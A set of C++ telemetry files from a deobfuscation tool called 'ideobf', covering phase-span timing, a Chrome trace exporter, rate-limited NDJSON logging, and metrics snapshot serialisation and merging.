    case Phase::QueueWait: return "queue-wait";
  }
  return "?";
}

std::uint64_t now_ns() {
  // One process-local epoch so trace timestamps across threads share an
  // origin (steady_clock's own epoch can be huge; Perfetto copes, humans
  // less so).
  static const auto g_epoch = std::chrono::steady_clock::now();
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now() - g_epoch)
          .count());
}

double PipelineProfile::accounted_seconds() const {
  std::uint64_t total = 0;
  for (const PhaseStat& s : phases) total += s.self_ns;
  return static_cast<double>(total) / 1e9;
}

bool PipelineProfile::empty() const {
  for (const PhaseStat& s : phases) {
    if (s.count != 0) return false;
  }
  return true;
}

void PipelineProfile::merge(const PipelineProfile& other) {
  for (std::size_t i = 0; i < kPhaseCount; ++i) {
    phases[i].count += other.phases[i].count;
    phases[i].self_ns += other.phases[i].self_ns;
    phases[i].total_ns += other.phases[i].total_ns;
  }
}

namespace {

/// Per-thread span stack: one child-time accumulator per open span. Fixed
/// capacity; spans beyond it are counted but not timed (the multilayer
/// recursion is depth-bounded, so 128 is far beyond any real nesting).
constexpr std::size_t kMaxSpanDepth = 128;
thread_local std::uint64_t tl_child_ns[kMaxSpanDepth];
thread_local std::size_t tl_depth = 0;
thread_local PipelineProfile* tl_profile = nullptr;

std::atomic<TraceRecorder*> g_recorder{nullptr};

Counter& deep_spans_counter() {
  static Counter& c =
      registry().counter("ideobf_telemetry_deep_spans_total");
  return c;
}

}  // namespace

ProfileScope::ProfileScope(PipelineProfile* profile) : prev_(tl_profile) {
  tl_profile = profile;
}

ProfileScope::~ProfileScope() { tl_profile = prev_; }

Counter& spans_opened_counter() {
  static Counter& c = registry().counter("ideobf_telemetry_spans_opened_total");
  return c;
}

Counter& spans_closed_counter() {
  static Counter& c = registry().counter("ideobf_telemetry_spans_closed_total");
  return c;
}

Histogram& phase_histogram(Phase phase) {
  static std::array<Histogram*, kPhaseCount>* hists = [] {
    auto* a = new std::array<Histogram*, kPhaseCount>();
    for (std::size_t i = 0; i < kPhaseCount; ++i) {
      std::string labels = "phase=\"";
      labels += phase_name(static_cast<Phase>(i));
      labels += '"';
      (*a)[i] = &registry().histogram("ideobf_phase_seconds", labels);
    }
    return a;
  }();
  return *(*hists)[static_cast<std::size_t>(phase)];
}

void PhaseSpan::begin(Phase phase, std::string_view detail) {
  if (tl_depth >= kMaxSpanDepth) {
    // Too deep to track nesting soundly: count and move on. Not opening the
    // span (rather than opening it unpaired) keeps opened == closed.
    deep_spans_counter().add();
    return;
  }
  phase_ = phase;
  detail_ = detail;
  depth_ = static_cast<std::uint16_t>(tl_depth);
  tl_child_ns[tl_depth] = 0;
  ++tl_depth;
  armed_ = true;
  spans_opened_counter().add_unguarded();
  start_ns_ = now_ns();  // last: exclude our own bookkeeping from the span
}

void PhaseSpan::end() {
  const std::uint64_t end_ns = now_ns();
  const std::uint64_t dur_ns = end_ns - start_ns_;
  tl_depth = depth_;  // pop (RAII guarantees LIFO per thread)
  const std::uint64_t child_ns = tl_child_ns[depth_];
  const std::uint64_t self_ns = dur_ns > child_ns ? dur_ns - child_ns : 0;
  if (depth_ > 0) tl_child_ns[depth_ - 1] += dur_ns;

  // Balance is kept even if telemetry was disabled mid-span.
  spans_closed_counter().add_unguarded();
  phase_histogram(phase_).observe_ns(dur_ns);
  if (tl_profile != nullptr) {
    PhaseStat& stat = tl_profile->phases[static_cast<std::size_t>(phase_)];
    stat.count += 1;
    stat.self_ns += self_ns;
    stat.total_ns += dur_ns;
  }
  if (TraceRecorder* rec = g_recorder.load(std::memory_order_acquire)) {
    rec->record(phase_, detail_, start_ns_, dur_ns);
  }
}

void Telemetry::set_trace_recorder(TraceRecorder* recorder) {
  g_recorder.store(recorder, std::memory_order_release);
}

TraceRecorder* Telemetry::trace_recorder() {
  return g_recorder.load(std::memory_order_acquire);
}

}  // namespace ideobf::telemetry
