#pragma once

/// \file chrome_trace.h
/// Chrome `trace_event` exporter: collects closed phase spans into per-slot
/// lanes and renders the JSON object format that `chrome://tracing` and
/// Perfetto load directly. Events are "complete" events (`"ph":"X"` with
/// `ts` + `dur`), so nesting needs no begin/end pairing — the viewer stacks
/// events on the same lane by interval containment, which is exactly the
/// span tree (spans on one thread are LIFO by construction).
///
/// Collection is capped (`max_events`, default 256k): a hostile high-churn
/// script must not balloon the recorder. Overflow sets `truncated()` and
/// counts `dropped()`; the rendered JSON carries both so a truncated trace
/// is never mistaken for a complete one.

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "telemetry/metrics.h"
#include "telemetry/telemetry.h"

namespace ideobf::telemetry {

class TraceRecorder {
 public:
  struct Event {
    Phase phase{};
    std::string_view detail;  ///< static-storage text (see PhaseSpan)
    std::uint64_t start_ns = 0;
    std::uint64_t dur_ns = 0;
  };

  static constexpr std::size_t kDefaultMaxEvents = 262144;

  explicit TraceRecorder(std::size_t max_events = kDefaultMaxEvents);

  /// Appends one closed span to the calling thread's lane (its metric
  /// shard, i.e. its WorkerPool slot under deobfuscate_batch). Drops and
  /// counts once the cap is reached.
  void record(Phase phase, std::string_view detail, std::uint64_t start_ns,
              std::uint64_t dur_ns);

  [[nodiscard]] std::size_t event_count() const;
  [[nodiscard]] bool truncated() const {
    return dropped_.load(std::memory_order_relaxed) != 0;
  }
  [[nodiscard]] std::size_t dropped() const {
    return dropped_.load(std::memory_order_relaxed);
  }

  /// All recorded events (lane-major). For tests and post-processing.
  [[nodiscard]] std::vector<std::pair<unsigned, Event>> snapshot_events() const;

  /// The Chrome trace JSON object: `traceEvents` (one metadata thread-name
  /// event per occupied lane + one "X" event per span, timestamps
  /// normalized to the earliest span), `displayTimeUnit`, and the
  /// truncation verdict as `truncated` / `droppedEvents`.
  [[nodiscard]] std::string render() const;

  void clear();

 private:
  struct Lane {
    mutable std::mutex mu;  ///< uncontended: one thread writes a lane
    std::vector<Event> events;
  };

  Lane lanes_[kShardCount];
  std::atomic<std::size_t> recorded_{0};
  std::atomic<std::size_t> dropped_{0};
  std::size_t max_events_;
};

}  // namespace ideobf::telemetry
