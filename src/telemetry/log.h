#pragma once

/// \file log.h
/// Structured NDJSON logging for the serve fleet. One record per line:
///
///   {"ts":1754650000.123,"level":"warn","component":"server",
///    "event":"journal-write-failed","worker":2,"errno":5}
///
/// Design constraints mirror the metrics registry:
///  1. Off must cost ~nothing: `log_enabled(level)` is one relaxed atomic
///     load; every call site gates on it before building a record. The
///     default threshold is Off.
///  2. Emitting is a cold path (failures, lifecycle events), so a mutex and
///     a heap string per record are fine. A token bucket caps sustained
///     output — a hostile client that trips a warn per request cannot turn
///     the log into the bottleneck; drops are counted in
///     `ideobf_telemetry_log_dropped_total`.
///  3. std-only (this library is a leaf): hand-rolled JSON quoting, write(2)
///     to a configurable fd (stderr by default, so fleet workers' records
///     interleave line-atomically in the supervisor's stderr).

#include <cstdint>
#include <string>
#include <string_view>

namespace ideobf::telemetry {

enum class LogLevel : int { Debug = 0, Info = 1, Warn = 2, Error = 3, Off = 4 };

/// Parses "debug"/"info"/"warn"/"error"/"off" (the `--log-level` grammar).
bool parse_log_level(std::string_view text, LogLevel& out);
std::string_view log_level_name(LogLevel level);

/// Threshold: records below it are never built. Default LogLevel::Off.
void set_log_level(LogLevel level);
LogLevel log_level();

/// The hot-path gate; call before constructing a LogEvent.
bool log_enabled(LogLevel level);

/// Redirects records (default fd 2). The fd is borrowed, never closed.
void set_log_fd(int fd);

/// Worker index stamped on every record as `"worker":N`; negative omits it
/// (standalone serve / CLI).
void set_log_worker(int worker_index);

/// Sustained-rate cap. `per_second <= 0` disables limiting (tests).
void set_log_rate_limit(double per_second, double burst);

/// Records dropped by the rate limiter since process start.
std::uint64_t log_dropped_count();

/// One record under construction. Field order is insertion order; `ts`,
/// `level`, `component`, `event`, and `worker` are always first. Emits on
/// destruction (or explicit emit()); a drop by the rate limiter is silent
/// except for the counter.
class LogEvent {
 public:
  LogEvent(LogLevel level, std::string_view component, std::string_view event);
  ~LogEvent();
  LogEvent(const LogEvent&) = delete;
  LogEvent& operator=(const LogEvent&) = delete;

  LogEvent& field(std::string_view key, std::string_view value);
  LogEvent& field(std::string_view key, const char* value) {
    return field(key, std::string_view(value));
  }
  LogEvent& field(std::string_view key, std::int64_t value);
  LogEvent& field(std::string_view key, std::uint64_t value);
  LogEvent& field(std::string_view key, int value) {
    return field(key, static_cast<std::int64_t>(value));
  }
  LogEvent& field(std::string_view key, double value);
  LogEvent& field_bool(std::string_view key, bool value);

  void emit();

 private:
  bool armed_ = false;
  bool emitted_ = false;
  LogLevel level_ = LogLevel::Off;
  std::string line_;
};

/// Appends `"key":"escaped"` JSON-quoting helper shared with the snapshot
/// and flight-recorder writers (control chars, quote, backslash).
void append_json_quoted(std::string& out, std::string_view text);

}  // namespace ideobf::telemetry
