#include "telemetry/log.h"

#include <time.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <mutex>

#include "telemetry/metrics.h"

namespace ideobf::telemetry {

namespace {

std::atomic<int> g_level{static_cast<int>(LogLevel::Off)};
std::atomic<int> g_fd{2};
std::atomic<int> g_worker{-1};
std::atomic<std::uint64_t> g_dropped{0};

/// Rate limiter state, touched only on the (cold) emit path.
std::mutex g_rate_mu;
double g_rate_per_second = 200.0;
double g_rate_burst = 100.0;
double g_tokens = 100.0;
double g_last_refill = 0.0;

double monotonic_seconds() {
  timespec ts{};
  ::clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) +
         static_cast<double>(ts.tv_nsec) / 1e9;
}

/// True when this record may be written; consumes one token.
bool rate_admit() {
  std::lock_guard lock(g_rate_mu);
  if (g_rate_per_second <= 0.0) return true;
  const double now = monotonic_seconds();
  g_tokens += (now - g_last_refill) * g_rate_per_second;
  g_last_refill = now;
  if (g_tokens > g_rate_burst) g_tokens = g_rate_burst;
  if (g_tokens < 1.0) return false;
  g_tokens -= 1.0;
  return true;
}

Counter& emitted_counter(LogLevel level) {
  // Function-local statics: thread-safe interning, one mutex hit per level.
  switch (level) {
    case LogLevel::Debug: {
      static Counter& c = registry().counter(
          "ideobf_telemetry_log_emitted_total", "level=\"debug\"");
      return c;
    }
    case LogLevel::Info: {
      static Counter& c = registry().counter(
          "ideobf_telemetry_log_emitted_total", "level=\"info\"");
      return c;
    }
    case LogLevel::Warn: {
      static Counter& c = registry().counter(
          "ideobf_telemetry_log_emitted_total", "level=\"warn\"");
      return c;
    }
    default: {
      static Counter& c = registry().counter(
          "ideobf_telemetry_log_emitted_total", "level=\"error\"");
      return c;
    }
  }
}

Counter& dropped_counter() {
  static Counter& c =
      registry().counter("ideobf_telemetry_log_dropped_total");
  return c;
}

}  // namespace

bool parse_log_level(std::string_view text, LogLevel& out) {
  if (text == "debug") out = LogLevel::Debug;
  else if (text == "info") out = LogLevel::Info;
  else if (text == "warn") out = LogLevel::Warn;
  else if (text == "error") out = LogLevel::Error;
  else if (text == "off") out = LogLevel::Off;
  else return false;
  return true;
}

std::string_view log_level_name(LogLevel level) {
  switch (level) {
    case LogLevel::Debug: return "debug";
    case LogLevel::Info: return "info";
    case LogLevel::Warn: return "warn";
    case LogLevel::Error: return "error";
    case LogLevel::Off: return "off";
  }
  return "?";
}

void set_log_level(LogLevel level) {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

LogLevel log_level() {
  return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed));
}

bool log_enabled(LogLevel level) {
  return static_cast<int>(level) >=
             g_level.load(std::memory_order_relaxed) &&
         level != LogLevel::Off;
}

void set_log_fd(int fd) { g_fd.store(fd, std::memory_order_relaxed); }

void set_log_worker(int worker_index) {
  g_worker.store(worker_index, std::memory_order_relaxed);
}

void set_log_rate_limit(double per_second, double burst) {
  std::lock_guard lock(g_rate_mu);
  g_rate_per_second = per_second;
  g_rate_burst = burst;
  g_tokens = burst;
  g_last_refill = monotonic_seconds();
}

std::uint64_t log_dropped_count() {
  return g_dropped.load(std::memory_order_relaxed);
}

void append_json_quoted(std::string& out, std::string_view text) {
  out += '"';
  for (const char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x",
                        static_cast<unsigned>(static_cast<unsigned char>(c)));
          out += buf;
        } else {
          out += c;
        }
        break;
    }
  }
  out += '"';
}

LogEvent::LogEvent(LogLevel level, std::string_view component,
                   std::string_view event)
    : armed_(log_enabled(level)), level_(level) {
  if (!armed_) return;
  timespec ts{};
  ::clock_gettime(CLOCK_REALTIME, &ts);
  char head[64];
  std::snprintf(head, sizeof(head), "{\"ts\":%lld.%03ld,\"level\":",
                static_cast<long long>(ts.tv_sec), ts.tv_nsec / 1000000);
  line_ = head;
  append_json_quoted(line_, log_level_name(level));
  line_ += ",\"component\":";
  append_json_quoted(line_, component);
  line_ += ",\"event\":";
  append_json_quoted(line_, event);
  const int worker = g_worker.load(std::memory_order_relaxed);
  if (worker >= 0) {
    line_ += ",\"worker\":";
    line_ += std::to_string(worker);
  }
}

LogEvent::~LogEvent() { emit(); }

LogEvent& LogEvent::field(std::string_view key, std::string_view value) {
  if (!armed_) return *this;
  line_ += ',';
  append_json_quoted(line_, key);
  line_ += ':';
  append_json_quoted(line_, value);
  return *this;
}

LogEvent& LogEvent::field(std::string_view key, std::int64_t value) {
  if (!armed_) return *this;
  line_ += ',';
  append_json_quoted(line_, key);
  line_ += ':';
  line_ += std::to_string(value);
  return *this;
}

LogEvent& LogEvent::field(std::string_view key, std::uint64_t value) {
  if (!armed_) return *this;
  line_ += ',';
  append_json_quoted(line_, key);
  line_ += ':';
  line_ += std::to_string(value);
  return *this;
}

LogEvent& LogEvent::field(std::string_view key, double value) {
  if (!armed_) return *this;
  char buf[48];
  std::snprintf(buf, sizeof(buf), "%.6g", value);
  line_ += ',';
  append_json_quoted(line_, key);
  line_ += ':';
  line_ += buf;
  return *this;
}

LogEvent& LogEvent::field_bool(std::string_view key, bool value) {
  if (!armed_) return *this;
  line_ += ',';
  append_json_quoted(line_, key);
  line_ += value ? ":true" : ":false";
  return *this;
}

void LogEvent::emit() {
  if (!armed_ || emitted_) return;
  emitted_ = true;
  if (!rate_admit()) {
    g_dropped.fetch_add(1, std::memory_order_relaxed);
    dropped_counter().add_unguarded();
    return;
  }
  emitted_counter(level_).add_unguarded();
  line_ += "}\n";
  // One write(2) per record: lines from concurrent threads (and from fleet
  // workers sharing the supervisor's stderr) stay whole.
  const int fd = g_fd.load(std::memory_order_relaxed);
  (void)!::write(fd, line_.data(), line_.size());
}

}  // namespace ideobf::telemetry
