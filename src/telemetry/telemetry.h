#pragma once

/// \file telemetry.h
/// Phase spans: RAII timers threaded through every pipeline stage. A
/// `PhaseSpan` on the hot path costs one relaxed atomic load when telemetry
/// is disabled; when enabled it records (a) a latency observation into the
/// per-phase histogram of the process-wide registry, (b) a lane event into
/// the attached `TraceRecorder` (Chrome trace_event exporter), and (c) a
/// per-phase self/total time into the thread's bound `PipelineProfile` —
/// the per-item breakdown carried on `DeobfuscationReport` and aggregated
/// into `BatchReport`.
///
/// Spans nest: each thread keeps a span stack, and a span's *self* time is
/// its wall time minus the wall time of the spans nested inside it. Summing
/// self time over every span in an item therefore reconstructs the item's
/// end-to-end wall time exactly (it is a partition), which is the invariant
/// the bench smoke gate asserts — phase totals must reconcile with the
/// measured wall clock, or the instrumentation is lying.

#include <cstddef>
#include <cstdint>
#include <string_view>

#include "ideobf/profile.h"
#include "telemetry/metrics.h"

namespace ideobf::telemetry {

// Phase, kPhaseCount, phase_name, PhaseStat and PipelineProfile moved to
// the public facade (include/ideobf/profile.h): the per-item breakdown is
// carried on DeobfuscationReport, so its types are API surface. The span
// machinery that fills them stays internal.

/// Nanoseconds on the steady clock since an arbitrary process-local epoch.
std::uint64_t now_ns();

/// Binds `profile` as the calling thread's span accumulation target for the
/// scope's lifetime (restores the previous binding on exit, so nested
/// bindings — an item profile inside a batch — compose).
class ProfileScope {
 public:
  explicit ProfileScope(PipelineProfile* profile);
  ~ProfileScope();
  ProfileScope(const ProfileScope&) = delete;
  ProfileScope& operator=(const ProfileScope&) = delete;

 private:
  PipelineProfile* prev_;
};

class TraceRecorder;

/// RAII phase timer. `detail` must point at static-storage text (phase
/// names, NodeKind names, disguise-form literals): it is kept as a view in
/// the trace recorder until render time.
class PhaseSpan {
 public:
  explicit PhaseSpan(Phase phase, std::string_view detail = {}) {
    if (enabled()) begin(phase, detail);
  }
  ~PhaseSpan() {
    if (armed_) end();
  }
  PhaseSpan(const PhaseSpan&) = delete;
  PhaseSpan& operator=(const PhaseSpan&) = delete;

 private:
  void begin(Phase phase, std::string_view detail);
  void end();

  bool armed_ = false;
  Phase phase_{};
  std::uint16_t depth_ = 0;
  std::string_view detail_{};
  std::uint64_t start_ns_ = 0;
};

/// The subsystem facade: the enable flag, the process-wide registry, and
/// the trace-recorder attachment point, in one place.
class Telemetry {
 public:
  static bool enabled() { return telemetry::enabled(); }
  static void enable() { set_enabled(true); }
  static void disable() { set_enabled(false); }
  static MetricsRegistry& metrics() { return registry(); }

  /// Attaches (or, with nullptr, detaches) the recorder that PhaseSpan
  /// closures feed. Non-owning; detach before destroying the recorder.
  static void set_trace_recorder(TraceRecorder* recorder);
  static TraceRecorder* trace_recorder();
};

/// Span-balance counters (smoke gate: opens == closes after a quiesced
/// run). Exposed for benches/tests.
Counter& spans_opened_counter();
Counter& spans_closed_counter();
/// Per-phase latency histogram ideobf_phase_seconds{phase="..."}.
Histogram& phase_histogram(Phase phase);

}  // namespace ideobf::telemetry
