#pragma once

/// \file build_info.h
/// Standard Prometheus hygiene series: `ideobf_build_info{version,git_sha}`
/// (constant 1 — joins against any other series identify the running build)
/// and `ideobf_server_uptime_seconds` (set at scrape time). The version and
/// git sha are baked in at configure time (IDEOBF_VERSION / IDEOBF_GIT_SHA
/// compile definitions on the telemetry library; "unknown" outside a git
/// checkout).

#include <string_view>

namespace ideobf::telemetry {

std::string_view build_version();
std::string_view build_git_sha();

/// Sets `ideobf_build_info{version="...",git_sha="..."}` to 1 and records
/// the process-start clock for uptime (idempotent; call once at startup and
/// again before any render — Gauge::set is unconditional, so the series
/// exists even when the scrape itself just enabled telemetry).
void register_build_info();

/// Seconds since the first register_build_info() call in this process.
double process_uptime_seconds();

/// Sets `ideobf_server_uptime_seconds` to the current uptime (whole
/// seconds). Call from the scrape path so the value is fresh per scrape.
void update_uptime_gauge();

}  // namespace ideobf::telemetry
