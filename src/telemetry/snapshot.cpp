#include "telemetry/snapshot.h"

#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <map>
#include <utility>

#include "telemetry/exposition.h"

namespace ideobf::telemetry {

namespace {

constexpr std::string_view kMagic = "ideobf-metrics-snapshot v1";

void append_escaped_token(std::string& out, std::string_view text) {
  if (text.empty()) {
    out += '-';
    return;
  }
  for (const char c : text) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case ' ': out += "\\s"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default: out += c; break;
    }
  }
}

std::string unescape_token(std::string_view token) {
  if (token == "-") return {};
  std::string out;
  out.reserve(token.size());
  for (std::size_t i = 0; i < token.size(); ++i) {
    if (token[i] != '\\' || i + 1 >= token.size()) {
      out += token[i];
      continue;
    }
    ++i;
    switch (token[i]) {
      case '\\': out += '\\'; break;
      case 's': out += ' '; break;
      case 'n': out += '\n'; break;
      case 't': out += '\t'; break;
      default: out += token[i]; break;
    }
  }
  return out;
}

std::vector<std::string_view> split_tokens(std::string_view line) {
  std::vector<std::string_view> tokens;
  std::size_t start = 0;
  while (start < line.size()) {
    const std::size_t end = line.find(' ', start);
    if (end == std::string_view::npos) {
      tokens.push_back(line.substr(start));
      break;
    }
    if (end > start) tokens.push_back(line.substr(start, end - start));
    start = end + 1;
  }
  return tokens;
}

bool parse_u64(std::string_view token, std::uint64_t& out) {
  if (token.empty()) return false;
  std::uint64_t value = 0;
  for (const char c : token) {
    if (c < '0' || c > '9') return false;
    value = value * 10 + static_cast<std::uint64_t>(c - '0');
  }
  out = value;
  return true;
}

bool parse_i64(std::string_view token, std::int64_t& out) {
  bool neg = false;
  if (!token.empty() && token.front() == '-') {
    neg = true;
    token.remove_prefix(1);
  }
  std::uint64_t mag = 0;
  if (!parse_u64(token, mag)) return false;
  out = neg ? -static_cast<std::int64_t>(mag) : static_cast<std::int64_t>(mag);
  return true;
}

/// `worker="N"` appended to a (possibly empty) label body.
std::string with_worker_label(const std::string& labels, int worker) {
  std::string out = labels;
  if (!out.empty()) out += ',';
  out += prom_label("worker", std::to_string(worker));
  return out;
}

}  // namespace

std::string serialize_snapshot(const MetricsSnapshotFile& file) {
  std::string out;
  out.reserve(8192);
  out += kMagic;
  out += '\n';
  out += "meta ";
  out += std::to_string(file.worker);
  out += ' ';
  out += std::to_string(file.unix_seconds);
  out += ' ';
  out += std::to_string(file.requests_total);
  out += '\n';
  for (const auto& c : file.snapshot.counters) {
    out += "c ";
    out += std::to_string(c.value);
    out += ' ';
    append_escaped_token(out, c.base);
    out += ' ';
    append_escaped_token(out, c.labels);
    out += '\n';
  }
  for (const auto& g : file.snapshot.gauges) {
    out += "g ";
    out += std::to_string(g.value);
    out += ' ';
    append_escaped_token(out, g.base);
    out += ' ';
    append_escaped_token(out, g.labels);
    out += '\n';
  }
  for (const auto& h : file.snapshot.histograms) {
    out += "h ";
    out += std::to_string(h.count);
    out += ' ';
    out += std::to_string(h.sum_ns);
    for (const std::uint64_t b : h.buckets) {
      out += ' ';
      out += std::to_string(b);
    }
    out += ' ';
    append_escaped_token(out, h.base);
    out += ' ';
    append_escaped_token(out, h.labels);
    out += '\n';
  }
  return out;
}

bool parse_snapshot_header(std::string_view text, MetricsSnapshotFile& out) {
  const std::size_t first_nl = text.find('\n');
  if (first_nl == std::string_view::npos ||
      text.substr(0, first_nl) != kMagic) {
    return false;
  }
  std::string_view rest = text.substr(first_nl + 1);
  const std::size_t second_nl = rest.find('\n');
  const std::string_view meta = rest.substr(
      0, second_nl == std::string_view::npos ? rest.size() : second_nl);
  const auto tokens = split_tokens(meta);
  if (tokens.size() != 4 || tokens[0] != "meta") return false;
  std::int64_t worker = -1;
  if (!parse_i64(tokens[1], worker) || !parse_u64(tokens[2], out.unix_seconds) ||
      !parse_u64(tokens[3], out.requests_total)) {
    return false;
  }
  out.worker = static_cast<int>(worker);
  return true;
}

bool parse_snapshot(std::string_view text, MetricsSnapshotFile& out,
                    std::string& error) {
  if (!parse_snapshot_header(text, out)) {
    error = "bad snapshot magic or meta line";
    return false;
  }
  std::size_t pos = 0;
  int line_no = 0;
  while (pos < text.size()) {
    std::size_t end = text.find('\n', pos);
    if (end == std::string_view::npos) end = text.size();
    const std::string_view line = text.substr(pos, end - pos);
    pos = end + 1;
    ++line_no;
    if (line_no <= 2 || line.empty()) continue;  // magic + meta handled above
    const auto tokens = split_tokens(line);
    if (tokens.empty()) continue;
    if (tokens[0] == "c" && tokens.size() == 4) {
      RegistrySnapshot::CounterSample s;
      if (!parse_u64(tokens[1], s.value)) continue;
      s.base = unescape_token(tokens[2]);
      s.labels = unescape_token(tokens[3]);
      out.snapshot.counters.push_back(std::move(s));
    } else if (tokens[0] == "g" && tokens.size() == 4) {
      RegistrySnapshot::GaugeSample s;
      if (!parse_i64(tokens[1], s.value)) continue;
      s.base = unescape_token(tokens[2]);
      s.labels = unescape_token(tokens[3]);
      out.snapshot.gauges.push_back(std::move(s));
    } else if (tokens[0] == "h" &&
               tokens.size() == 5 + Histogram::kBucketCount) {
      RegistrySnapshot::HistogramSample s;
      bool ok = parse_u64(tokens[1], s.count) && parse_u64(tokens[2], s.sum_ns);
      for (std::size_t i = 0; ok && i < Histogram::kBucketCount; ++i) {
        ok = parse_u64(tokens[3 + i], s.buckets[i]);
      }
      if (!ok) continue;
      s.base = unescape_token(tokens[3 + Histogram::kBucketCount]);
      s.labels = unescape_token(tokens[4 + Histogram::kBucketCount]);
      out.snapshot.histograms.push_back(std::move(s));
    }
    // Unknown kinds: skipped (forward compatibility).
  }
  return true;
}

RegistrySnapshot merge_snapshots(
    const std::vector<MetricsSnapshotFile>& files) {
  using Key = std::pair<std::string, std::string>;  // (base, labels)
  std::map<Key, std::uint64_t> counters;
  std::map<Key, std::int64_t> gauges;
  std::map<Key, RegistrySnapshot::HistogramSample> histograms;

  auto merge_histogram = [&](const Key& key,
                             const RegistrySnapshot::HistogramSample& h) {
    auto [it, inserted] = histograms.try_emplace(key, h);
    if (inserted) {
      it->second.base = key.first;
      it->second.labels = key.second;
      return;
    }
    it->second.count += h.count;
    it->second.sum_ns += h.sum_ns;
    for (std::size_t i = 0; i < Histogram::kBucketCount; ++i) {
      it->second.buckets[i] += h.buckets[i];
    }
  };

  for (const MetricsSnapshotFile& file : files) {
    for (const auto& c : file.snapshot.counters) {
      counters[{c.base, c.labels}] += c.value;
      counters[{c.base, with_worker_label(c.labels, file.worker)}] += c.value;
    }
    for (const auto& g : file.snapshot.gauges) {
      gauges[{g.base, g.labels}] += g.value;
      gauges[{g.base, with_worker_label(g.labels, file.worker)}] += g.value;
    }
    for (const auto& h : file.snapshot.histograms) {
      merge_histogram({h.base, h.labels}, h);
      merge_histogram({h.base, with_worker_label(h.labels, file.worker)}, h);
    }
  }

  RegistrySnapshot out;
  out.counters.reserve(counters.size());
  for (const auto& [key, value] : counters) {
    out.counters.push_back({key.first, key.second, value});
  }
  out.gauges.reserve(gauges.size());
  for (const auto& [key, value] : gauges) {
    out.gauges.push_back({key.first, key.second, value});
  }
  out.histograms.reserve(histograms.size());
  for (auto& [key, sample] : histograms) {
    out.histograms.push_back(std::move(sample));
  }
  return out;
}

bool write_file_atomic(const std::string& path, std::string_view content,
                       std::string& error) {
  const std::string tmp = path + ".tmp";
  const int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0) {
    error = "open " + tmp + ": " + std::strerror(errno);
    return false;
  }
  std::size_t off = 0;
  while (off < content.size()) {
    const ssize_t n = ::write(fd, content.data() + off, content.size() - off);
    if (n <= 0) {
      if (n < 0 && errno == EINTR) continue;
      error = "write " + tmp + ": " + std::strerror(errno);
      ::close(fd);
      ::unlink(tmp.c_str());
      return false;
    }
    off += static_cast<std::size_t>(n);
  }
  ::close(fd);
  if (::rename(tmp.c_str(), path.c_str()) != 0) {
    error = "rename " + tmp + ": " + std::strerror(errno);
    ::unlink(tmp.c_str());
    return false;
  }
  return true;
}

}  // namespace ideobf::telemetry
