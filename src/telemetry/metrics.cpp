#include "telemetry/metrics.h"

namespace ideobf::telemetry {

namespace detail {
std::atomic<bool> g_enabled{false};
}  // namespace detail

void set_enabled(bool on) {
  detail::g_enabled.store(on, std::memory_order_relaxed);
}

namespace {
std::atomic<unsigned> g_next_shard{0};
thread_local unsigned tl_shard = kShardCount;  // kShardCount = unassigned
}  // namespace

unsigned current_shard() {
  if (tl_shard >= kShardCount) {
    tl_shard = g_next_shard.fetch_add(1, std::memory_order_relaxed) % kShardCount;
  }
  return tl_shard;
}

void set_current_shard(unsigned slot) { tl_shard = slot % kShardCount; }

std::uint64_t Counter::value() const {
  std::uint64_t sum = 0;
  for (const Cell& c : cells_) sum += c.v.load(std::memory_order_relaxed);
  return sum;
}

std::uint64_t Counter::shard_value(unsigned shard) const {
  return cells_[shard % kShardCount].v.load(std::memory_order_relaxed);
}

void Counter::reset() {
  for (Cell& c : cells_) c.v.store(0, std::memory_order_relaxed);
}

std::int64_t Gauge::value() const {
  std::int64_t sum = 0;
  for (const Cell& c : cells_) sum += c.v.load(std::memory_order_relaxed);
  return sum;
}

void Gauge::set(std::int64_t v) {
  for (std::size_t i = 1; i < kShardCount; ++i) {
    cells_[i].v.store(0, std::memory_order_relaxed);
  }
  cells_[0].v.store(v, std::memory_order_relaxed);
}

void Gauge::reset() {
  for (Cell& c : cells_) c.v.store(0, std::memory_order_relaxed);
}

const std::array<std::uint64_t, Histogram::kBucketCount - 1>&
Histogram::bounds_ns() {
  // 1-2.5-5 ladder, 1 µs .. 10 s.
  static const std::array<std::uint64_t, kBucketCount - 1> kBounds = {
      1'000ull,           2'500ull,           5'000ull,            // 1-5 µs
      10'000ull,          25'000ull,          50'000ull,           // 10-50 µs
      100'000ull,         250'000ull,         500'000ull,          // 0.1-0.5 ms
      1'000'000ull,       2'500'000ull,       5'000'000ull,        // 1-5 ms
      10'000'000ull,      25'000'000ull,      50'000'000ull,       // 10-50 ms
      100'000'000ull,     250'000'000ull,     500'000'000ull,      // 0.1-0.5 s
      1'000'000'000ull,   2'500'000'000ull,   5'000'000'000ull,    // 1-5 s
      10'000'000'000ull,                                           // 10 s
  };
  return kBounds;
}

std::size_t Histogram::bucket_index(std::uint64_t ns) {
  const auto& bounds = bounds_ns();
  for (std::size_t i = 0; i < bounds.size(); ++i) {
    if (ns <= bounds[i]) return i;
  }
  return kBucketCount - 1;  // +Inf
}

std::uint64_t Histogram::bucket_value(std::size_t i) const {
  std::uint64_t sum = 0;
  for (const Shard& s : shards_) {
    sum += s.buckets[i].load(std::memory_order_relaxed);
  }
  return sum;
}

std::uint64_t Histogram::count() const {
  std::uint64_t sum = 0;
  for (const Shard& s : shards_) sum += s.count.load(std::memory_order_relaxed);
  return sum;
}

std::uint64_t Histogram::sum_ns() const {
  std::uint64_t sum = 0;
  for (const Shard& s : shards_) sum += s.sum_ns.load(std::memory_order_relaxed);
  return sum;
}

void Histogram::reset() {
